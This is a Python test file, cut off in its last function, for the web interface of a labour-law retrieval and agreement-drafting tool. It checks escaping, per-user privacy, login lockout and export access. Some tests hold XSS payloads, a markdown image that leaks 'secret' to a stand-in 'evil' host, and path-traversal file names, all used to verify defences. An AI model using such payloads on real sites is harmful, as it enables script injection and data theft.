"""The web interface's handlers, called directly (no browser), over a real store and a fake model.

One test also launches the real Gradio server with login to check that one user's export cannot
be fetched by another and that the pages carry the Content-Security-Policy.
"""

from __future__ import annotations

import inspect
import json
import re
import socket
from pathlib import Path
from types import SimpleNamespace

import gradio as gr
import pytest

from rag.engine import build_engine
from rag.web import DownloadGuard, Handlers, build_ui, launch_options
from rag.web.render import checks_html, citations_html, md_escape
from rag.web.security import Authenticator, SecurityHeaders
from rag.web.texts import EXAMPLE_QUESTIONS, headers, tr
from rag.workspace import UserAccount, Workspace, load_users, safe_user_id
from tests.conftest import HashEmbeddings
from tests.conftest import RecordingFake

CODE = """# Code du travail (extrait de test)
## Titre III : De la durée du travail
### Article 184
Dans les activités non agricoles, la durée normale de travail est fixée à 2288 heures par année ou 44 heures par semaine.
### Article 201
Les heures supplémentaires donnent lieu à une majoration de 25 % entre 6 heures et 21 heures et de 50 % entre 21 heures et 6 heures.
## Titre V : Du salaire
### Article 350
Le salarié bénéficie d'une prime d'ancienneté de 5 % après deux ans, 10 % après cinq ans, 15 % après douze ans, 20 % après vingt ans et 25 % après vingt-cinq ans de service.
"""
ANSWER = "La durée normale du travail est de 44 heures par semaine [S1]."
QUESTION = "Quelle est la durée normale du travail par semaine ? art. 184"


def req(user: str | None) -> SimpleNamespace:
    return SimpleNamespace(username=user)


def rows_of(value) -> list[list]:
    return value if isinstance(value, list) else value.get("data", value)


@pytest.fixture
def engine(settings, tmp_path):
    # named like the official code so that "C. trav. art. N" references of the templates resolve
    code = tmp_path / "ma_code_travail_fr_2011.md"
    code.write_text(CODE, encoding="utf-8")
    eng = build_engine(settings, embedder=HashEmbeddings(), chat=RecordingFake([ANSWER]))
    eng.index.index_paths([code], isolated=False)
    yield eng
    eng.close()


@pytest.fixture
def ui(engine, settings):
    return Handlers(engine, settings)


def ask(ui, question, user="alice", conversation=None, lang="fr", **filters):
    return list(ui.chat.chat_submit(question, conversation, filters.get("kinds"), filters.get("langs"), filters.get("source"), req(user), lang))


def draft(ui, topic="Prime d'ancienneté", demands="4 % après 5 ans", variant="target", user="alice", use_model=False):
    topic_id = next(value for title, value in ui.drafting.library_choices() if title == topic)
    return ui.drafting.draft_clause(topic_id, "", demands, "", variant, use_model, req(user))


# ---- building ------------------------------------------------------------------------------------


def test_build_ui_returns_blocks(engine, settings):
    demo = build_ui(engine, settings)
    assert isinstance(demo, gr.Blocks)
    assert isinstance(demo.handlers, Handlers)
    options = launch_options(settings)
    assert options["allowed_paths"] == [] and str(settings.data_dir.resolve()) in options["blocked_paths"]
    assert "unicode-bidi: plaintext" in options["css"] and options["auth"] is None


def test_outputs_are_mapped_by_name_and_an_unlisted_name_is_refused():
    from rag.web.layout import bind_outputs

    shown, notice = gr.Textbox(), gr.Markdown()
    components = {"shown": shown, "notice": notice}

    def answer(text, request: gr.Request | None = None):
        return {"notice": f"reçu : {text}"}

    def stream(text):
        yield {"shown": text[:1]}
        yield {"shown": text, "notice": "fini"}

    def typo():
        return {"notcie": "perdu"}

    bound = bind_outputs(answer, ("shown", "notice"), components)
    assert bound("abc") == {notice: "reçu : abc"}  # "shown" left out: that component is not touched
    assert bound.__name__ == "answer" and "request" in inspect.signature(bound).parameters  # API name, injected request
    assert list(bind_outputs(stream, ("shown", "notice"), components)("ab")) == [{shown: "a"}, {shown: "ab", notice: "fini"}]
    with pytest.raises(KeyError, match="notcie"):
        bind_outputs(typo, ("shown", "notice"), components)()


def test_language_switch_reaches_every_label_of_every_tab(engine, settings):
    """Arabic or English: every tab, accordion, button and labelled field changes, the Calculs and
    Négociation tabs included; only the example questions (each in its own language) and the
    status and welcome texts written by the handlers stay as they are."""
    demo = build_ui(engine, settings)
    switch = next(f for f in demo.fns.values() if f.api_name == "set_language")
    switched = {id(c) for c in switch.outputs}
    for block in demo.blocks.values():
        shown = block.value if isinstance(block, gr.Button) else getattr(block, "label", None)
        if isinstance(block, (gr.Tab, gr.Accordion, gr.Button)) or (isinstance(shown, str) and shown):
            assert id(block) in switched or block.value in EXAMPLE_QUESTIONS, (type(block).__name__, shown)
    for lang in ("ar", "en"):
        outputs = switch.fn(lang)
        assert len(outputs) == len(switch.outputs)
        updates = [u for u in outputs if isinstance(u, dict) and u.get("__type__") == "update"]
        labels = {u.get("label") for u in updates} | {u.get("value") for u in updates if isinstance(u.get("value"), str)}
        assert {tr("tab_calc", lang), tr("tab_negotiation", lang), tr("calc_years", lang), tr("nego_rounds", lang), tr("first_steps", lang)} <= labels
        assert "Calculs" not in labels and "Tours de négociation" not in labels
        calc_pick = next(u for u in updates if u.get("label") == tr("calc_pick", lang))
        assert calc_pick["choices"][0] == (tr("calc_seniority", lang), "seniority") and len(calc_pick["choices"]) == 7
    french = switch.fn("xx")  # anything else: French
    assert any(isinstance(u, dict) and u.get("label") == "Votre question (français, arabe ou anglais)" for u in french)


def test_status_line_names_the_model_state_and_the_counts(ui, settings):
    line = ui.chat.status_line()
    assert "modèle local, hors ligne" in line and "ui_store" not in line
    assert re.search(r"1 (?:loi|autre texte) \(\d+ passages\)", line), line


# ---- chat ----------------------------------------------------------------------------------------


def test_chat_answer_streams_with_citation_chip_and_excerpt(ui):
    outs = ask(ui, QUESTION)
    assert len(outs) >= 2  # something is shown before the final answer
    final = outs[-1]
    reply = final["chatbot"][-1]
    assert reply["role"] == "assistant" and "art. 184" in reply["content"] and "[S1]" not in reply["content"]
    chips = final["chips"]["choices"]
    assert chips and "art. 184" in chips[0][0]
    shown = ui.chat.show_citation(chips[0][1], final["cited"])
    assert "art. 184" in shown["excerpt_title"] and "44 heures par semaine" in shown["excerpt_text"]
    assert ui.chat.show_citation("7", final["cited"]) == {"excerpt_title": "", "excerpt_text": ""}  # a chip that no longer exists
    assert final["message"] == "" and final["chat_notice"] == ""


def test_select_an_earlier_answer_shows_its_citations(ui):
    final = ask(ui, QUESTION)[-1]
    answer = ui.chat.select_message(final["conversation"], SimpleNamespace(index=1, value=""))
    assert answer["cited"] and answer["cited"][0]["article"] == "184" and answer["chips"]["choices"]
    question = ui.chat.select_message(final["conversation"], SimpleNamespace(index=0, value=""))
    assert question["cited"] == [] and question["chips"]["choices"] == []


def test_doubtful_answer_still_offers_the_quoted_excerpt_as_a_chip(ui, engine):
    """Every sentence « à vérifier » keeps no citation, but the quote that stands alone stays one click away."""
    engine._chat = RecordingFake(["La durée normale du travail par semaine est de 2288 heures."])
    final = ask(ui, QUESTION)[-1]
    reply = final["chatbot"][-1]["content"]
    assert "à vérifier" in reply and "Citation ajoutée" not in reply
    # the answer reads the article's sentence in the model's place, and that quote is not repeated below
    assert "Extrait de la source la plus proche" in reply and reply.count("Dans les activités non agricoles") == 1
    chips = final["chips"]["choices"]
    assert chips and "art. 184" in chips[0][0]
    shown = ui.chat.show_citation(chips[0][1], final["cited"])
    assert "44 heures par semaine" in shown["excerpt_text"]
    again = ui.chat.select_message(final["conversation"], SimpleNamespace(index=1, value=""))
    assert again["chips"]["choices"] == chips


@pytest.mark.parametrize("message,why", [("", "vide"), ("   \n ", "vide"), ("x" * 200_000, "trop long"), (None, "vide")])
def test_empty_and_huge_messages_refused_before_the_model(ui, engine, settings, message, why):
    outs = ask(ui, message)
    assert len(outs) == 1
    assert why in outs[0]["chat_notice"]
    assert not {"chips", "cited", "excerpt_text"} & set(outs[0])  # the previous answer's chips and excerpt stay as they were
    assert engine._chat.prompts == []  # the model never saw it
    assert Workspace(settings.data_dir, "alice").list_conversations() == []
    if message and len(message) > 1000:
        assert "200\u202f000" in outs[0]["chat_notice"]


def test_conversation_persisted_and_reloaded_after_restart(ui, engine, settings):
    final = ask(ui, QUESTION)[-1]
    conv_id = final["conversation"]["id"]
    assert final["conversations"]["value"] == conv_id
    restarted = Handlers(engine, settings)  # a new process would read the same files
    loaded = restarted.on_load(req("alice"))
    assert [v for _, v in loaded["conversations"]["choices"]] == [conv_id]
    opened = restarted.chat.open_conversation(conv_id, req("alice"))
    assert [m["role"] for m in opened["chatbot"]] == ["user", "assistant"]
    assert "art. 184" in opened["chatbot"][1]["content"] and opened["cited"][0]["article"] == "184"
    # another user sees neither the list nor the conversation itself
    other = restarted.on_load(req("bob"))
    assert other["conversations"]["choices"] == []
    assert restarted.chat.open_conversation(conv_id, req("bob"))["chatbot"] == []
    # a new conversation starts empty; deleting removes the file
    fresh = restarted.chat.new_conversation(req("alice"))
    assert fresh["chatbot"] == [] and fresh["conversation"]["id"] != conv_id
    restarted.chat.delete_conversation(opened["conversation"], req("alice"))
    assert Workspace(settings.data_dir, "alice").list_conversations() == []


def test_follow_up_goes_into_same_conversation(ui, engine):
    engine._chat = RecordingFake([ANSWER, "art. 201", "Les heures de nuit sont majorées de 50 % [S1]."])
    first = ask(ui, QUESTION)[-1]
    second = ask(ui, "et pour les heures supplémentaires de nuit ? art. 201", conversation=first["conversation"])[-1]
    assert second["conversation"]["id"] == first["conversation"]["id"]
    assert len(second["chatbot"]) == 4


def test_model_failure_is_a_clear_french_message(ui, engine):
    engine._chat = None
    engine.settings.llm_backend = "openai"  # no server address: the model cannot be built
    engine.settings.openai_base_url = None
    final = ask(ui, QUESTION)[-1]
    reply = final["chatbot"][-1]["content"]
    assert reply.startswith("⚠ Le modèle n'a pas pu répondre") and "RAG_OPENAI_BASE_URL" in reply
    assert "Traceback" not in reply and "File \"" not in reply


def test_model_cut_mid_answer_is_labelled_partial(ui, engine):
    from tests.conftest import FailingModel

    engine._chat = FailingModel(["La durée normale est de 44 heures [S1]."], ConnectionError("connection closed before the end"))
    final = ask(ui, QUESTION)[-1]
    assert "interrompue" in final["chatbot"][-1]["content"].lower()


def test_filters_keep_only_known_values(ui):
    f = ui.chat.filters(["law", "evil"], ["fr", "xx"], "nope.pdf")
    assert f.kinds == ["law"] and f.langs == ["fr"] and f.sources == []
    f = ui.chat.filters(None, None, "ma_code_travail_fr_2011.md")
    assert f.sources == ["ma_code_travail_fr_2011.md"]
    # a filter that excludes every text gives "not found", not an invented answer
    final = ask(ui, "durée du travail par semaine", kinds=["press"])[-1]
    assert "ne traitent pas" in final["chatbot"][-1]["content"] and final["cited"] == []


# ---- corpus ----------------------------------------------------------------------------------------


def test_upload_good_and_fake_pdf_then_remove(ui, settings, tmp_path):
    up = tmp_path / "upload"
    up.mkdir()
    good = up / "accord_test.md"
    good.write_text("# Accord test\n### Article 1\nLe délai entre deux appels est de 20 secondes au moins.\n", encoding="utf-8")
    fake = up / "faux.pdf"
    fake.write_bytes(b"<html><body>pas un PDF</body></html>")
    out = ui.corpus.index_uploads([str(good), str(fake)], req(None), progress=None)
    results = {row[0]: row[1:] for row in out["index_results"]}
    assert results["accord_test.md"][0] == "indexé"
    assert results["faux.pdf"][0] == "échec" and results["faux.pdf"][1]
    assert "1 indexé(s)" in out["corpus_notice"] and "1 en échec" in out["corpus_notice"]
    listed = {row[0]: row for row in out["documents"]}
    assert "accord_test.md" in listed and "faux.pdf" not in listed
    assert "accord_test.md" in out["remove_pick"]["choices"] or ("accord_test.md", "accord_test.md") in out["remove_pick"]["choices"]
    assert any(v == "accord_test.md" for _, v in out["source"]["choices"])
    # the kept copy lives in a folder of our own; the failed one was discarded
    kept = list((settings.data_dir / "_uploads").glob("*/*"))
    assert [p.name for p in kept] == ["accord_test.md"]
    # uploading the same file again: unchanged
    again = ui.corpus.index_uploads([str(good)], req(None), progress=None)
    assert again["index_results"][0][1] == "inchangé"
    assert len(list((settings.data_dir / "_uploads").glob("*/*"))) == 1
    removed = ui.corpus.remove_document("accord_test.md", req(None))
    assert "accord_test.md" not in {row[0] for row in removed["documents"]}
    assert "retiré" in removed["corpus_notice"]
    assert list((settings.data_dir / "_uploads").glob("*/*")) == []


def test_hostile_upload_name_is_stored_safely(ui, settings, tmp_path):
    up = tmp_path / "hostile"
    up.mkdir()
    nasty = up / "<img src=x onerror=alert(1)>.md"
    nasty.write_text("# T\n### Article 1\nTexte de test sur les pauses.\n", encoding="utf-8")
    progress_calls = []
    out = ui.corpus.index_uploads([str(nasty)], req(None), progress=lambda f, desc=None: progress_calls.append((f, desc)))
    assert out["index_results"][0][1] == "indexé"
    assert progress_calls and all(0.0 <= f <= 1.0 for f, _ in progress_calls)
    staged = list((settings.data_dir / "_uploads").glob("*/*"))
    assert len(staged) == 1 and staged[0].resolve().is_relative_to((settings.data_dir / "_uploads").resolve())
    removed = ui.corpus.remove_document(staged[0].name, req(None))
    assert "&lt;" not in removed["corpus_notice"] and "\\<img" in removed["corpus_notice"]  # shown escaped in Markdown


def test_remove_and_index_refused_for_non_admin_when_login_is_on(engine, settings, tmp_path):
    users = {"ali": UserAccount("ali", b"$2b$", admin=True), "bob": UserAccount("bob", b"$2b$", admin=False)}
    ui = Handlers(engine, settings, users=users)
    assert ui.corpus.is_admin(req("ali")) and not ui.corpus.is_admin(req("bob")) and not ui.corpus.is_admin(req("nobody"))
    assert Handlers(engine, settings).corpus.is_admin(req(None))  # no login: the local user manages the corpus
    f = tmp_path / "x.md"
    f.write_text("# X\n### Article 1\nTexte.\n", encoding="utf-8")
    out = ui.corpus.index_uploads([str(f)], req("bob"), progress=None)
    assert "administrateurs" in out["corpus_notice"] and "x.md" not in {r[0] for r in out["documents"]}
    out = ui.corpus.remove_document("ma_code_travail_fr_2011.md", req("bob"))
    assert "administrateurs" in out["corpus_notice"] and "ma_code_travail_fr_2011.md" in {r[0] for r in out["documents"]}
    assert "administrateurs" in ui.corpus.reindex_all(req("bob"), progress=None)["corpus_notice"]
    loaded = ui.on_load(req("bob"))
    assert loaded["admin_box"]["visible"] is False
    assert ui.on_load(req("ali"))["admin_box"]["visible"] is True
    out = ui.corpus.index_uploads([str(f)], req("ali"), progress=None)
    assert out["index_results"][0][1] == "indexé"


def test_reindex_all_skips_unchanged(ui, engine, settings, tmp_path):
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "fiche.md").write_text("# Fiche\n### Article 1\nRepos hebdomadaire de 24 heures.\n", encoding="utf-8")
    settings.corpus_dirs = [folder]
    first = ui.corpus.reindex_all(req(None), progress=None)
    status = {r[0]: r[1] for r in first["index_results"]}
    assert status["fiche.md"] == "indexé" and status["ma_code_travail_fr_2011.md"] == "inchangé"
    second = ui.corpus.reindex_all(req(None), progress=None)
    assert {r[1] for r in second["index_results"]} == {"inchangé"}


# ---- drafting and the agreement project ------------------------------------------------------------


def test_draft_library_topic_flags_art_350(ui):
    out = draft(ui)
    assert out["clause"]["template_id"] == "prime_anciennete"
    assert "Prime d'ancienneté" in out["clause_title"] and "4 %" in out["clause_text"]
    assert "check-below" in out["checks"] and "✘" in out["checks"] and "art. 350" in out["checks"]
    assert "moins favorable que C. trav. art. 350" in out["checks"]
    assert out["comparison"] and any("sous le plancher" in row[3] for row in out["comparison"])
    assert "art. 350" in out["clause_citations"]
    assert out["draft_notice"].startswith("Clause rédigée")


def test_draft_with_model_shows_rationale_and_accepts_french_variant(ui, engine):
    engine._chat = RecordingFake(["La prime rémunère la fidélité ; la loi fixe 5 % après deux ans [S1]."])
    out = draft(ui, demands="8 % après 2 ans", variant="cible", use_model=True)
    assert out["clause"]["variant"] == "target"
    assert "Exposé des motifs" in out["rationale"] and "fidélité" in out["rationale"]
    assert "check-ok" in out["checks"]


def test_draft_refuses_bad_input(ui):
    assert "thème" in ui.drafting.draft_clause(None, "", "", "", "target", False, req("a"))["draft_notice"]
    assert "Variante" in ui.drafting.draft_clause("prime_anciennete", "", "", "", "extreme", False, req("a"))["draft_notice"]
    many = "\n".join(["5 % après 2 ans"] * 30)
    assert "Au plus" in ui.drafting.draft_clause("prime_anciennete", "", many, "", "target", False, req("a"))["draft_notice"]


def test_add_reorder_remove_and_export(ui, settings):
    first = draft(ui)
    second = draft(ui, topic=next(t for t, _ in ui.drafting.library_choices() if "heures supplémentaires" in t.lower()), demands="")
    edited = first["clause_text"] + "\n\nArticle 3 — Clause ajoutée par la délégation."
    added = ui.drafting.add_to_project(first["clause"], edited, req("alice"))
    assert "ajoutée au projet" in added["draft_notice"]
    added = ui.drafting.add_to_project(second["clause"], second["clause_text"], req("alice"))
    table = rows_of(added["project_table"])
    assert [r[1] for r in table] == [first["clause"]["title"], second["clause"]["title"]]
    assert table[0][3] >= 1  # the below-floor demand is counted

    moved = ui.project.move_clause_down(0, req("alice"))
    assert [r[1] for r in rows_of(moved["project_table"])] == [second["clause"]["title"], first["clause"]["title"]]
    assert moved["clause_pick"]["value"] == 1  # the selection follows the clause
    edge = ui.project.move_clause_down(1, req("alice"))
    assert "extrémité" in edge["project_notice"]
    moved = ui.project.move_clause_up(1, req("alice"))
    assert [r[1] for r in rows_of(moved["project_table"])][0] == first["clause"]["title"]

    exported = ui.project.export_markdown("Convention test", "Préambule de test.", req("alice"))
    path = exported["export_file"]
    assert path and "Export prêt" in exported["project_notice"]
    text = Path(path).read_text(encoding="utf-8")
    assert text.startswith("# Convention test") and "Préambule de test." in text
    assert text.index(first["clause"]["title"]) < text.index(second["clause"]["title"])
    assert "Clause ajoutée par la délégation" in text and "Points à corriger" in text
    saved = settings.data_dir / "alice" / "exports"
    assert (saved / Path(path).name).read_bytes() == Path(path).read_bytes()
    assert not Path(path).resolve().is_relative_to(settings.data_dir.resolve())  # served copy is elsewhere

    path = ui.project.export_docx(None, None, req("alice"))["export_file"]
    import docx

    document = docx.Document(path)
    body = "\n".join(p.text for p in document.paragraphs)
    assert "Convention test" in body and first["clause"]["title"] in body

    # the project survives a restart
    again = Handlers(ui.engine, settings).project.project_view(req("alice"))
    assert again["project_title"] == "Convention test" and len(rows_of(again["project_table"])) == 2

    removed = ui.project.remove_clause(0, req("alice"))
    assert [r[1] for r in rows_of(removed["project_table"])] == [second["clause"]["title"]]
    assert "⚠" in ui.project.remove_clause(7, req("alice"))["project_notice"]


def test_add_without_draft_or_with_empty_text_is_refused(ui):
    assert "Rédigez d'abord" in ui.drafting.add_to_project(None, "texte", req("a"))["draft_notice"]
    clause = draft(ui)["clause"]
    assert "vide" in ui.drafting.add_to_project(clause, "   ", req("a"))["draft_notice"]
    assert "aucune clause" in ui.project.export_markdown(None, None, req("someone-else"))["project_notice"]


@pytest.mark.parametrize("title", ["../../etc/x", "CON", "a/b", "x" * 500, "<script>alert(1)</script>", "..", "\u202eexe.md"])
def test_hostile_titles_give_safe_export_names(ui, settings, title):
    ui.drafting.add_to_project(draft(ui)["clause"], None, req("alice"))
    exported = ui.project.export_markdown(title, "", req("alice"))
    path = exported["export_file"]
    assert path, exported["project_notice"]
    name = Path(path).name
    assert re.fullmatch(r"[a-z0-9-]{1,80}\.md", name), name
    assert name.split(".")[0] not in {"con", "prn", "nul", "aux"}
    exports = (settings.data_dir / "alice" / "exports").resolve()
    assert (exports / name).is_file() and all(p.resolve().parent == exports for p in exports.iterdir())
    assert Path(path).resolve().is_relative_to(ui.download_root.resolve())


def test_projects_are_private_per_user(ui, settings):
    ui.drafting.add_to_project(draft(ui, user="alice")["clause"], None, req("alice"))
    bob = ui.project.project_view(req("bob"))
    assert rows_of(bob["project_table"]) == []
    assert ui.project.export_markdown(None, None, req("bob"))["export_file"] is None
    path = ui.project.export_markdown(None, None, req("alice"))["export_file"]
    # the cached copy Gradio will serve is registered to alice only
    cached = f"/tmp/gradio/{DownloadGuard.key(Path(path))}/{Path(path).name}"
    assert ui.guard.allowed(cached, "alice") and not ui.guard.allowed(cached, "bob")
    assert not (settings.data_dir / "bob" / "project.json").exists()
    assert (settings.data_dir / "alice" / "project.json").exists()


# ---- workspace, login, rendering ----------------------------------------------------------------


@pytest.mark.parametrize("raw", ["../../etc", "..", ".", "a/b", "a\\b", "Alice", "ali ce", "x" * 300, "_uploads", "\u202eevil"])
def test_user_ids_are_safe_folder_names(raw, tmp_path):
    sid = safe_user_id(raw)
    assert re.fullmatch(r"[a-z0-9][a-z0-9_-]*", sid) and len(sid) <= 80
    assert Workspace(tmp_path, raw).root.parent == tmp_path
    assert safe_user_id(None) == safe_user_id("") == "local"
    assert safe_user_id("Alice") != safe_user_id("alice") and safe_user_id("a/b") != safe_user_id("a_b")


def test_corrupt_project_file_is_set_aside(tmp_path):
    ws = Workspace(tmp_path, "alice")
    ws.root.mkdir(parents=True)
    ws.project_file.write_text("{ not json", encoding="utf-8")
    project = ws.load_project()
    assert project["clauses"] == [] and list(ws.root.glob("project.json.corrupt-*"))


def test_users_file_and_authenticator(tmp_path):
    import bcrypt

    hashed = bcrypt.hashpw(b"secret-ali", bcrypt.gensalt(rounds=4)).decode()
    path = tmp_path / "users.txt"
    path.write_text(f"# comment\nali:{hashed}:admin\nbob:{hashed}\n\n", encoding="utf-8")
    users = load_users(path)
    assert users["ali"].admin and not users["bob"].admin
    auth = Authenticator(users, max_failures=3, lockout_s=60)
    assert auth("ali", "secret-ali") and not auth("ali", "wrong") and not auth("nobody", "secret-ali")
    for _ in range(3):
        assert not auth("bob", "wrong")
    assert not auth("bob", "secret-ali")  # locked out, even with the right password
    bad = tmp_path / "bad.txt"
    bad.write_text("ali-without-hash\n", encoding="utf-8")
    with pytest.raises(ValueError, match="ligne 1"):
        load_users(bad)


def test_rendering_escapes_untrusted_text():
    hostile = "<img src=x onerror=alert(1)> ![](http://evil/?q=secret) [lien](javascript:alert(1))"
    html_checks = checks_html([{"status": "below_floor", "message": hostile, "article": "350<b>"}])
    assert "<img" not in html_checks and "&lt;img" in html_checks and "350&lt;b&gt;" in html_checks
    html_cites = citations_html([{"label": hostile, "title": hostile, "article": "1", "page": 2, "text": hostile}])
    assert "<img" not in html_cites and "&lt;img" in html_cites
    md = md_escape(hostile)
    assert re.search(r"(?<!\\)[!\[\]<>]", md) is None  # every markup character is escaped


def test_security_headers_and_download_guard_middleware(tmp_path):
    from starlette.applications import Starlette
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route
    from starlette.testclient import TestClient

    guard = DownloadGuard()
    export = tmp_path / "projet.md"
    export.write_text("# secret", encoding="utf-8")
    guard.grant(export, "alice")
    key = DownloadGuard.key(export)

    async def serve(request):
        return PlainTextResponse("contenu")

    app = Starlette(routes=[Route("/gradio_api/file={path:path}", serve), Route("/", serve)])
    app.auth, app.cookie_id, app.tokens = object(), "cid", {"tok-a": "alice", "tok-b": "bob"}
    app.add_middleware(SecurityHeaders, guard=guard)
    client = TestClient(app)
    page = client.get("/")
    assert "img-src 'self' data: blob:" in page.headers["content-security-policy"]
    url = f"/gradio_api/file=/tmp/gradio/{key}/projet.md"
    client.cookies.set("access-token-cid", "tok-a")
    assert client.get(url).status_code == 200
    client.cookies.set("access-token-cid", "tok-b")
    assert client.get(url).status_code == 403
    assert client.get("/gradio_api/file=/tmp/gradio/unrelated/x.md").status_code == 200  # not an export


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_launched_app_denies_another_users_export(engine, settings, tmp_path):
    """The real server with login: alice's export URL gives 403 to bob, the page has the CSP."""
    import bcrypt
    import httpx

    hashed = bcrypt.hashpw(b"pw", bcrypt.gensalt(rounds=4)).decode()
    users_file = tmp_path / "users.txt"
    users_file.write_text(f"alice:{hashed}\nbob:{hashed}\n", encoding="utf-8")
    users = load_users(users_file)
    guard = DownloadGuard()
    demo = build_ui(engine, settings, users=users, guard=guard)
    demo.handlers.drafting.add_to_project(draft(demo.handlers)["clause"], None, req("alice"))
    port = _free_port()
    demo.launch(server_name="127.0.0.1", server_port=port, share=False, show_error=False, prevent_thread_lock=True,
                quiet=True, max_file_size="5mb", **launch_options(settings, users=users, guard=guard))
    base = f"http://127.0.0.1:{port}"
    try:
        def login(user):
            client = httpx.Client(base_url=base, timeout=30)
            assert client.post("/login", data={"username": user, "password": "pw"}).status_code == 200
            return client

        anonymous = httpx.Client(base_url=base, timeout=30)
        assert anonymous.post("/gradio_api/call/export_markdown", json={"data": [None, None]}).status_code == 401
        alice, bob = login("alice"), login("bob")
        page = alice.get("/")
        assert page.status_code == 200 and "img-src 'self'" in page.headers.get("content-security-policy", "")
        event = alice.post("/gradio_api/call/export_markdown", json={"data": ["Projet d'Alice", "Préambule"]}).json()["event_id"]
        stream = alice.get(f"/gradio_api/call/export_markdown/{event}").text
        data = json.loads([line for line in stream.splitlines() if line.startswith("data:")][-1][5:])
        served = data[0]["path"]
        url = f"/gradio_api/file={served}"
        assert alice.get(url).status_code == 200 and "Projet d'Alice" in alice.get(url).text
        assert bob.get(url).status_code == 403
        # the user data folder itself is never served
        project = settings.data_dir / "alice" / "project.json"
        assert project.exists() and bob.get(f"/gradio_api/file={project}").status_code == 403
        assert alice.get(f"/gradio_api/file={project}").status_code == 403
    finally:
        demo.close()


def test_pruning_spares_young_unreferenced_uploads_of_other_sessions(tmp_path):
    import os
    import time

    from rag.workspace import UPLOADS_DIR, prune_uploads

    root = tmp_path / UPLOADS_DIR
    kept, waiting, stale = (root / name for name in ("kept", "waiting", "stale"))
    for folder in (kept, waiting, stale):
        folder.mkdir(parents=True)
        (folder / "texte.md").write_text("# Article 1\nTexte.", encoding="utf-8")
    old = time.time() - 3600
    for folder in (kept, stale):
        os.utime(folder, (old, old))
    removed = prune_uploads(tmp_path, {str(kept / "texte.md")}, min_age_s=600)
    assert removed == 1
    assert kept.exists() and waiting.exists() and not stale.exists()


def test_status_and_welcome_say_what_is_indexed_and_what_is_missing(engine, settings, tmp_path):
    fiche = tmp_path / "fiche.md"
    fiche.write_text("---\nkind: project\ntitle: Fiche test\n---\n# Fiche test\nLa durée du travail est de 44 heures.\n", encoding="utf-8")
    engine.index.index_paths([fiche], isolated=False)
    ui = Handlers(engine, settings)
    status = ui.chat.status_line()
    assert "1 fiche du projet" in status and "manquent" in status and "Code du travail" in status
    assert "GGUF" not in status and str(settings.store_dir) not in status  # words a negotiator reads, not paths
    welcome = ui.chat.welcome_markdown()
    assert "adala.justice.gov.ma" in welcome  # where to obtain the official text
    assert "\n\n" + tr("welcome_examples") in welcome  # its own paragraph, not the tail of the last missing text's bullet
    assert ("Le Code du travail n'est pas encore indexé" in welcome) == ("loi" not in status)


def test_welcome_warns_when_the_code_is_absent(settings, tmp_path):
    eng = build_engine(settings, embedder=HashEmbeddings())
    try:
        welcome = Handlers(eng, settings).chat.welcome_markdown()
        assert "Le Code du travail n'est pas encore indexé" in welcome and "aucun texte" in welcome
    finally:
        eng.close()


# ---- the interface language: notices, status line, welcome panel, table headers -------------------


def test_notices_follow_the_interface_language(ui, engine, settings, tmp_path):
    assert ask(ui, "   ")[-1]["chat_notice"].startswith("⚠ Message vide")  # French by default
    assert ask(ui, "   ", lang="en")[-1]["chat_notice"] == "⚠ Empty message: write a question before sending."
    assert ask(ui, "   ", lang="ar")[-1]["chat_notice"] == "⚠ رسالة فارغة: اكتب سؤالا قبل الإرسال."
    unsaved = ui.chat.workspace(req("alice")).new_conversation()
    assert "اطرح سؤالا أولا" in ui.chat.rename_conversation("Titre", unsaved, req("alice"), "ar")["chat_notice"]
    assert ui.chat.cancel_delete("en")["chat_notice"] == "Deletion cancelled."
    answered = ask(ui, QUESTION)[-1]
    assert "الملف: ma\\_code\\_travail\\_fr\\_2011.md" in ui.chat.show_citation("0", answered["cited"], "ar")["excerpt_title"]
    # the Corpus tab's refusals, the project's export, the drafting notices
    users = {"bob": UserAccount("bob", b"$2b$", admin=False)}
    f = tmp_path / "x.md"
    f.write_text("# X\n### Article 1\nTexte.\n", encoding="utf-8")
    refused = Handlers(engine, settings, users=users).corpus.index_uploads([str(f)], req("bob"), None, "en")
    assert refused["corpus_notice"] == "⚠ Only administrators may add texts to the corpus."
    assert refused["status"].startswith("**Indexed texts**")  # the status line it re-sends too
    assert ui.project.export_markdown(None, None, req("zed"), "ar")["project_notice"] == tr("project_empty", "ar")
    drafted = draft(ui)
    english = ui.drafting.draft_clause("prime_anciennete", "", "4 % après 5 ans", "", "target", False, req("alice"), "en")
    assert english["draft_notice"].startswith("Clause drafted") and "library: prime\\_anciennete · variant Target" in english["clause_title"]
    assert english["comparison"]["headers"] == ["Parameter", "Legal floor", "Draft", "Status", "Comparable"]
    assert any(row[3] == "✘ below the floor" for row in english["comparison"]["data"])
    assert "(below the legal floor — art. 350)" in english["checks"] and "sous le plancher" not in english["checks"]
    added = ui.drafting.add_to_project(drafted["clause"], drafted["clause_text"], req("alice"), "ar")
    assert added["draft_notice"].startswith("أضيف البند") and added["project_table"]["headers"][1] == "البند"
    assert "Variante inconnue" in ui.drafting.draft_clause("prime_anciennete", "", "", "", "extreme", False, req("a"))["draft_notice"]
    taken = ui.project.take_negotiation_texts(req("alice"), "ar")  # nothing in conflict: said in Arabic
    assert taken["project_notice"].startswith(tr("no_conflict", "ar")) and taken["project_table"]["headers"] == headers("project", "ar")


def test_status_line_and_welcome_in_arabic(ui):
    status = ui.chat.status_line("ar")
    assert status.startswith("**النصوص المفهرسة**") and "**الأجوبة**" in status
    assert re.search(r"(?:قانون|أخرى): 1", status) and "نموذج محلي دون اتصال" in status, status
    assert "Textes indexés" not in status and "modèle local" not in status and "passages" not in status
    welcome = ui.chat.welcome_markdown("ar")
    assert welcome.startswith("**مرحبا.**") and "أمثلة على الأسئلة" in welcome and "Bienvenue" not in welcome
    assert ui.chat.welcome_markdown("en").startswith("**Welcome.**")


def test_language_switch_resends_the_tables_with_their_headers(engine, settings, tmp_path):
    import pandas as pd

    demo = build_ui(engine, settings)
    ui = demo.handlers
    switch = next(f for f in demo.fns.values() if f.api_name == "set_language")
    named = {getattr(c, "label", None): c for c in switch.outputs if isinstance(c, gr.Dataframe)}
    status_line = next(c for c in switch.outputs if getattr(c, "elem_id", None) == "status-line")
    clause = draft(ui)["clause"]
    found = ui.corpus.search_corpus("durée du travail", [], [], "")
    shown_results = pd.DataFrame([["a.md", "indexé", ""], ["b.pdf", "échec", "PDF illisible"]], columns=headers("result"))

    def switched(lang):
